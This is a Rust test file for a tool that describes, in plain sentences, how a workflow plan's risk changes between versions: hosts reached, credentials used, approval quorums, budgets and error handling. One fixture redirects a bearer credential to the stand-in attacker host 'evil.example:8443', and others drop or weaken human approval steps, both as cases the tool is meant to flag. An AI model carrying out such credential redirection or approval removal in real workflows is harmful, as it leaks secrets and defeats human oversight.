//! What one file means that another did not.

use workflow::{
    difference::{Weight, difference},
    plan::Plan,
};

use crate::{example, plan};

const FRONT: &str = "workflow: {id: demo, name: Demo}\n";
const READ: &str = "id: read\naction: http.request\ninputs: {method: GET, url: \"https://erp.example/{{ inputs.id }}\"}\n";
const ASK: &str =
    "id: agree\napproval: {title: Go on, approvers: [\"role:approver\", \"email:cfo@acme.example\"], quorum: 2, expires_in: 1d}\n";
const PAY: &str = "id: pay\naction: http.request\ninputs: {method: POST, url: \"https://pay.example/x\", headers: {Authorization: \"Bearer cred://desk\"}}\n";
const THINK: &str = "id: think\naction: agent.generate\ninputs: {prompt: Say it, model: house/small}\n";

fn file(front: &str, steps: &[&str]) -> Plan {
    let blocks: Vec<String> = steps.iter().map(|step| format!("```yaml\n{step}```\n")).collect();
    plan(&format!("---\n{front}---\n{}", blocks.join("\n")))
}

fn inputs(front: &str, inputs: &str) -> String {
    format!("{front}inputs:\n{inputs}")
}

fn with_id(front: &str) -> String {
    inputs(front, "  id: {type: string}\n")
}

/// `+` raises the risk, `-` lowers it, `=` is another one.
fn told(before: Option<&Plan>, after: &Plan) -> Vec<String> {
    let sign = |weight| match weight {
        Weight::Raises => '+',
        Weight::Changes => '=',
        Weight::Lowers => '-',
    };
    difference(before, after).iter().map(|change| format!("{} {}", sign(change.weight), change.words)).collect()
}

#[track_caller]
fn check(before: &Plan, after: &Plan, expected: &[&str]) {
    assert_eq!(told(Some(before), after), expected);
    assert_eq!(told(Some(after), after), [] as [&str; 0], "a plan means what it means");
}

#[test]
fn a_new_host_credential_and_permission_raise_the_risk_and_come_first() {
    let before = file(&with_id(FRONT), &[THINK]);
    let after = file(&with_id(FRONT), &[THINK, READ, PAY]);
    check(
        &before,
        &after,
        &[
            "+ It may reach `erp.example`, which it could not before",
            "+ It may reach `pay.example`, which it could not before",
            "+ It uses the credential `cred://desk`, towards `pay.example`",
            "+ Whoever starts it needs the permission `tool:execute`",
            "+ The step `pay` is new: `http.request`",
            "+ The step `read` is new: `http.request`",
        ],
    );
    check(
        &after,
        &before,
        &[
            "- It no longer reaches `erp.example`",
            "- It no longer reaches `pay.example`",
            "- It no longer uses the credential `cred://desk`",
            "- Whoever starts it no longer needs the permission `tool:execute`",
            "- The step `pay` is gone",
            "- The step `read` is gone",
        ],
    );
}

#[test]
fn a_credential_that_goes_elsewhere_is_told_with_both_places() {
    let before = file(FRONT, &[PAY]);
    let after = file(FRONT, &[&PAY.replace("pay.example", "evil.example:8443")]);
    check(
        &before,
        &after,
        &[
            "+ It may reach `evil.example:8443`, which it could not before",
            "+ It sends the credential `cred://desk` to `evil.example:8443` too",
            "= The step `pay` has another `url`",
            "- It no longer reaches `pay.example`",
            "- It no longer sends the credential `cred://desk` to `pay.example`",
        ],
    );
}

#[test]
fn another_path_on_the_same_host_is_a_change_and_no_risk() {
    let before = file(&with_id(FRONT), &[READ]);
    check(&before, &file(&with_id(FRONT), &[&READ.replace("example/{{", "example/invoices/{{")]), &["= The step `read` has another `url`"]);
}

#[test]
fn what_a_run_may_cost_is_told_up_and_down() {
    let run = |limit: &str| format!("{FRONT}budget: {{limit: {limit}, per: run}}\n");
    let cheap = file(&run("0.25"), &[THINK]);
    check(&cheap, &file(&run("0.50"), &[THINK]), &["+ A run may cost at most $0.5000 instead of $0.2500"]);
    check(&file(&run("0.50"), &[THINK]), &cheap, &["- A run may cost at most $0.2500 instead of $0.5000"]);
    let open = "Nothing in the file bounds what a run may cost; the limits of workflow and tenant hold";
    check(&cheap, &file(FRONT, &[THINK]), &[&format!("+ {open}; it was $0.2500 before")]);
    let each = format!("{FRONT}budget: {{limit: 0.10, per: step}}\n");
    let second = THINK.replace("think", "again");
    check(
        &file(&each, &[THINK]),
        &file(&each, &[THINK, &second]),
        &["+ A run may cost at most $0.2000 instead of $0.1000", "+ The step `again` is new: `agent.generate`"],
    );
}

#[test]
fn who_is_asked_and_how_many_is_told() {
    let before = file(FRONT, &[ASK, PAY]);
    let ask = |from: &str, to: &str| file(FRONT, &[&ASK.replace(from, to), PAY]);
    let was = "2 of role `approver` or `cfo@acme.example`";
    check(
        &before,
        &ask("quorum: 2", "quorum: 1"),
        &[&format!("+ The step `agree` asks 1 of role `approver` or `cfo@acme.example` instead of {was}")],
    );
    check(
        &before,
        &ask(", \"email:cfo@acme.example\"]", "]"),
        &[&format!("- The step `agree` asks 2 of role `approver` instead of {was}")],
    );
    check(
        &before,
        &ask("role:approver", "role:viewer"),
        &[&format!("+ The step `agree` asks 2 of role `viewer` or `cfo@acme.example` instead of {was}")],
    );
    check(&before, &ask("1d", "36h"), &["= The step `agree` can be decided for 36 hours instead of 1 day"]);
    check(
        &before,
        &ask("expires_in: 1d", "expires_in: 1d, on_reject: continue"),
        &["+ The run goes on when it is rejected at the step `agree`", "+ The run goes on when nobody decides at the step `agree`"],
    );
    check(&before, &ask("id: agree", "id: agree\ncondition: \"1 > 2\""), &["+ The step `agree` asks only if `1 > 2`"]);
    check(&ask("id: agree", "id: agree\ncondition: \"1 > 2\""), &before, &["- The step `agree` asks always, and not only if `1 > 2`"]);
}

#[test]
fn a_call_that_no_longer_waits_for_a_yes_is_told() {
    let before = file(FRONT, &[ASK, PAY]);
    check(
        &before,
        &file(FRONT, &[PAY]),
        &[
            "+ Nobody is asked at the step `agree` any more; it was 2 of role `approver` or `cfo@acme.example`",
            "+ The step `pay` no longer waits for the approval `agree`",
        ],
    );
    check(
        &before,
        &file(FRONT, &[PAY, ASK]),
        &["+ The step `pay` no longer waits for the approval `agree`", "= The steps run in another order: `pay` and `agree`"],
    );
    check(
        &file(FRONT, &[PAY]),
        &before,
        &["- The step `agree` asks 2 of role `approver` or `cfo@acme.example`", "- The step `pay` waits for the approval `agree`"],
    );
}

#[test]
fn a_step_that_reads_and_then_writes_or_goes_on_after_errors_is_told() {
    let before = file(&with_id(FRONT), &[READ]);
    check(
        &before,
        &file(&with_id(FRONT), &[&READ.replace("GET", "DELETE")]),
        &["+ The step `read` sends `DELETE` where it only read before", "= The step `read` has another `method`"],
    );
    let goes_on = READ.replace("inputs:", "on_error: continue\ninputs:");
    check(
        &before,
        &file(&with_id(FRONT), &[&goes_on]),
        &["+ The run goes on when the step `read` fails", "= The step `read` has another `on_error`"],
    );
    let guarded = READ.replace("inputs:", "condition: inputs.id\ninputs:");
    check(&file(&with_id(FRONT), &[&guarded]), &before, &["+ The step `read` runs always, and not only if `inputs.id`"]);
    check(&before, &file(&with_id(FRONT), &[&guarded]), &["- The step `read` runs only if `inputs.id`"]);
}

#[test]
fn inputs_models_and_words_are_told() {
    let before = file(&inputs(FRONT, "  a: {type: string}\n  b: {type: number, default: 1}\n"), &[THINK]);
    let after = file(
        &inputs("workflow: {id: demo, name: \"An`other\"}\n", "  b: {type: string, required: true}\n  c: {type: array, required: true}\n"),
        &[&THINK.replace(", model: house/small", "")],
    );
    check(
        &before,
        &after,
        &[
            "+ It asks the tenant's default model",
            "= The input `a` is gone: a start that gives it is refused",
            "= The input `b` has to be given, is a text instead of a number and has no default any more",
            "= A start has to give the input `c`, a list",
            "= The step `think` has another `model`",
            "= The name is `An'other` instead of `Demo`",
            "- It no longer asks the model `house/small`",
        ],
    );
}

#[test]
fn without_another_one_a_plan_is_told_whole_with_its_risks_first() {
    let told = told(None, &plan(&example("vendor-payment.md")));
    for part in
        ["+ It may reach `{{ vars.payments_url }}`", "+ It uses the credential `cred://payment-desk`", "+ A run may cost at most $0.1000"]
    {
        assert!(told.iter().any(|line| line.starts_with(part)), "{part} in {told:#?}");
    }
    let first_other = told.iter().position(|line| !line.starts_with('+')).unwrap();
    assert!(told[first_other..].iter().all(|line| !line.starts_with('+')), "{told:#?}");
}
